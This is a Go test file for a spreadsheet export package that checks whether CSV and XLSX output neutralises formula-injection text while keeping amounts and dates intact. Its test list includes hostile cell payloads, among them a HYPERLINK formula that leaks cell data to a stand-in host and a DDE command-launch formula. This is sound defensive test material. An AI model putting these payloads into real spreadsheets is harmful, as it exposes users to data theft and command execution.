package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/shopspring/decimal"
	"github.com/xuri/excelize/v2"

	"congquy/internal/money"
)

// hostileTexts are cell texts a spreadsheet could run as formulas (TESTING.md row 23),
// and harmless ones that must be left alone.
var hostileTexts = []string{
	"=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"bấm vào đây\")", "+1+1", "-1+1", "-2",
	"@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0", "＝1+1", "＋1", "－1", "＠SUM(A1)",
	"=", "+", "-", "@",
}

var harmlessTexts = []string{"", "Chi tiền điện", "1+1", " =1", "a=b", "'quoted", "Công ty TNHH Đông Á", "100%"}

func TestNeutralise(t *testing.T) {
	for _, s := range hostileTexts {
		if got := Neutralise(s); got != "'"+s {
			t.Errorf("Neutralise(%q) = %q, want a leading apostrophe", s, got)
		}
	}
	for _, s := range harmlessTexts {
		if got := Neutralise(s); got != s {
			t.Errorf("Neutralise(%q) = %q, want it unchanged", s, got)
		}
	}
}

// corpusRow is one row of every kind of cell, texts hostile.
func corpusRows() [][]Cell {
	day := time.Date(2026, 3, 31, 0, 0, 0, 0, time.UTC)
	var rows [][]Cell
	for i, s := range append(append([]string{}, hostileTexts...), harmlessTexts...) {
		rows = append(rows, []Cell{
			Text(s), Money(money.FromInt64(-int64(i) * 1_250_000)), Money(money.MustParse("-99999999999999999999")),
			Int(-int64(i)), Decimal(decimal.RequireFromString("-12.50")), Date(day), Empty(),
		})
	}
	return rows
}

// TESTING.md row 23 for CSV: every hostile text is neutralised; amounts, integers and
// decimals stay plain (negative) numbers.
func TestCSVNeutralisesAndKeepsNumbers(t *testing.T) {
	var buf bytes.Buffer
	w := NewCSV(&buf)
	if err := w.AddHeader("=Tên", "Số tiền"); err != nil {
		t.Fatal(err)
	}
	rows := corpusRows()
	for _, r := range rows {
		if err := w.AddRow(r...); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(buf.Bytes(), []byte(utf8BOM)) {
		t.Fatal("no UTF-8 byte-order mark")
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), utf8BOM)))
	r.FieldsPerRecord = -1
	got, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got[0][0] != "'=Tên" {
		t.Errorf("header = %q", got[0][0])
	}
	live, corrupted := 0, 0
	for i, r := range rows {
		rec := got[i+1]
		if startsFormula(rec[0]) {
			live++
			t.Errorf("row %d: live formula %q", i, rec[0])
		}
		for j := 1; j <= 4; j++ {
			if rec[j] != r[j].String() || strings.HasPrefix(rec[j], "'") {
				corrupted++
				t.Errorf("row %d col %d: %q, want the number %q", i, j, rec[j], r[j].String())
			}
		}
		if rec[5] != "2026-03-31" || rec[6] != "" {
			t.Errorf("row %d: date %q, empty %q", i, rec[5], rec[6])
		}
	}
	t.Logf("CSV: %d rows, live formulas %d, corrupted numbers %d", len(rows), live, corrupted)
}

// TESTING.md row 23 for XLSX: no cell holds a formula, no text cell starts like one, and
// amounts are number cells whose raw value is the exact amount.
func TestXLSXNeutralisesAndKeepsNumbers(t *testing.T) {
	sh, err := NewSheet("Báo cáo [thử]: =1")
	if err != nil {
		t.Fatal(err)
	}
	defer sh.Close()
	if err := sh.AddHeader("=Tên", "Số tiền"); err != nil {
		t.Fatal(err)
	}
	rows := corpusRows()
	for _, r := range rows {
		if err := sh.AddRow(r...); err != nil {
			t.Fatal(err)
		}
	}
	f := mustReopen(t, sh)
	name := f.GetSheetName(0)
	if name != "Báo cáo _thử__ =1" {
		t.Errorf("sheet name %q", name)
	}
	live, corrupted := 0, 0
	for i, r := range rows {
		row := i + 2
		for j, c := range r {
			ref, _ := excelize.CoordinatesToCellName(j+1, row)
			if fm, _ := f.GetCellFormula(name, ref); fm != "" {
				live++
				t.Errorf("%s: formula %q", ref, fm)
			}
			raw, _ := f.GetCellValue(name, ref, excelize.Options{RawCellValue: true})
			typ, _ := f.GetCellType(name, ref)
			switch c.kind {
			case kindText:
				if startsFormula(raw) || raw != cellText(c.text) {
					live++
					t.Errorf("%s: text %q", ref, raw)
				}
			case kindMoney, kindInt, kindDecimal:
				if raw != c.String() || (typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset) {
					corrupted++
					t.Errorf("%s: %q of type %v, want the number %s", ref, raw, typ, c.String())
				}
			case kindDate:
				if raw != "46112" {
					t.Errorf("%s: date serial %q, want 46112", ref, raw)
				}
				if shown, _ := f.GetCellValue(name, ref); shown != "31/03/2026" {
					t.Errorf("%s: date shown as %q", ref, shown)
				}
			}
		}
	}
	if shown, _ := f.GetCellValue(name, "B3"); shown != "-1,250,000" {
		t.Errorf("money shown as %q, want grouped -1,250,000", shown)
	}
	t.Logf("XLSX: %d rows, live formulas %d, corrupted numbers %d", len(rows), live, corrupted)
}

func TestDateSerial(t *testing.T) {
	for _, d := range []time.Time{time.Date(1900, 3, 1, 0, 0, 0, 0, time.UTC), time.Date(2026, 3, 31, 0, 0, 0, 0, time.UTC), time.Date(2199, 12, 31, 0, 0, 0, 0, time.UTC)} {
		sh, err := NewSheet("d")
		if err != nil {
			t.Fatal(err)
		}
		if err := sh.AddRow(Date(d)); err != nil {
			t.Fatal(err)
		}
		f := mustReopen(t, sh)
		raw, _ := f.GetCellValue("d", "A1", excelize.Options{RawCellValue: true})
		var serial int64
		for _, c := range raw {
			serial = serial*10 + int64(c-'0')
		}
		if back := DateFromSerial(serial); !back.Equal(d) {
			t.Errorf("%s → %s → %s", d.Format(time.DateOnly), raw, back.Format(time.DateOnly))
		}
		sh.Close()
	}
}

// startsFormula reports whether a cell read back could be evaluated.
func startsFormula(s string) bool {
	return s != "" && strings.ContainsRune(formulaStarts, []rune(s)[0])
}

// mustReopen writes the sheet and opens the bytes again as a reader would.
func mustReopen(t *testing.T, sh *Sheet) *excelize.File {
	t.Helper()
	var buf bytes.Buffer
	if _, err := sh.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}
